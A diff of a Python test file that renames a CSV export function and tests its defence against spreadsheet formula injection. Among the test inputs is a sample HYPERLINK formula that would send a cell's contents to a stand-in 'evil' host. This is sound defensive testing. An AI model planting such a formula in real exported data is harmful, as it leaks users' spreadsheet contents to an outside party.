@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from api.http.tables import csv_text
+from api.http.tables import to_csv
 
 FORMULA = tuple("=+-@\t\r\n＝＋－＠")
 
@@ -20,15 +20,15 @@ def read(text: str) -> list[list[str]]:
     "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", '=HYPERLINK("http://evil?"&A1)']
 )
 def test_a_text_that_a_spreadsheet_would_compute_is_a_text(text: str) -> None:
-    assert read(csv_text(["a"], [[text]])) == [["a"], [f"'{text}"]]
+    assert read(to_csv(["a"], [[text]])) == [["a"], [f"'{text}"]]
 
 
 def test_numbers_are_written_as_numbers_and_none_is_empty() -> None:
-    assert csv_text(["a", "b", "c", "d"], [[-1, 0.5, None, "x"]]) == '"a","b","c","d"\r\n-1,0.5,"","x"\r\n'
+    assert to_csv(["a", "b", "c", "d"], [[-1, 0.5, None, "x"]]) == '"a","b","c","d"\r\n-1,0.5,"","x"\r\n'
 
 
 @given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1, max_size=3))
 def test_any_text_is_one_cell_that_begins_no_formula(cells: list[str]) -> None:
-    (row,) = read(csv_text(["x"] * len(cells), [cells]))[1:]
+    (row,) = read(to_csv(["x"] * len(cells), [cells]))[1:]
     assert [cell.removeprefix("'") if cell != given else cell for cell, given in zip(row, cells, strict=True)] == cells
     assert not any(cell.lstrip(" ").startswith(FORMULA) for cell in row)
